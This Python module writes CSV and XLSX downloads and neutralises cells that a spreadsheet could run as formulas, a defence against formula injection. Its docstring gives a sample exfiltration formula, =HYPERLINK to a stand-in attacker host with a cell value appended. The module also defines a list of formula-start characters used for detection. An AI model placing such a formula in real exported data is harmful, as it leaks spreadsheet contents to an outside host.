"""Spreadsheet downloads that can't be turned against their reader: the one CSV and XLSX writer.

A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` (and, in some programs, a
tab or carriage return) as a formula, so a provider name or a comment such as
`=HYPERLINK("https://evil.example/?"&A1)` would run on the organiser's computer
(CSV/formula injection). Every export goes through `to_csv` or `to_xlsx`:

- in CSV, a text cell starting with one of those characters gets a leading apostrophe, the
  spreadsheet convention for "this is text" (`'=HYPERLINK(...)`);
- in XLSX, every string is written as a text cell (never a formula), and a text starting with
  one of those characters also carries the "quote prefix" style, so editing the cell keeps it
  text; the value itself is unchanged.

Only text is neutralised. Numbers stay numbers: an int, float or Decimal is written as it is, and
so is a string that is just a number literal ("-12.50", "+3", "-0,5"), since a spreadsheet
reads it as that number and never as a formula.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal

from openpyxl import Workbook

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def is_risky(text: str) -> bool:
    """True when a spreadsheet could read this text as a formula."""
    return text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text)


def safe_text(text: str) -> str:
    """The text as a CSV cell no spreadsheet evaluates: risky text gets a leading apostrophe."""
    return "'" + text if is_risky(text) else text


def to_csv(rows: Iterable[Sequence[object]], delimiter: str = ",") -> str:
    """Rows as CSV text (CRLF line ends); None is an empty cell, text is neutralised."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    for row in rows:
        writer.writerow(
            ["" if v is None else safe_text(v) if isinstance(v, str) else v for v in row]
        )
    return out.getvalue()


def to_xlsx(rows: Iterable[Sequence[object]], title: str) -> bytes:
    """Rows as a one-sheet workbook: strings as text cells, Decimals as numbers, None empty."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = title
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row, start=1):
            if value is None:
                continue
            cell = sheet.cell(r, c)
            if isinstance(value, str):
                cell.value = value
                cell.data_type = "s"  # openpyxl would make a text starting with "=" a formula
                if is_risky(value):
                    cell.quotePrefix = True
            else:
                cell.value = float(value) if isinstance(value, Decimal) else value
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
